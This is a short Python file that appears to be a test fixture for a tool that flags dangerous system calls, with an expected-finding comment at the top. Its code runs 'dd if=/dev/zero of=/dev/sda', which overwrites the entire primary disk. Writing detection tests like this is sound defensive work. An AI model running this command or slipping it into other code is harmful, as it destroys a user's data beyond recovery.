# expect: sys-write 4:46
import subprocess

cmds = [["sync"], ["dd", "if=/dev/zero", "of=/dev/sda", "bs=1M"]]
for c in cmds:
    subprocess.run(c)
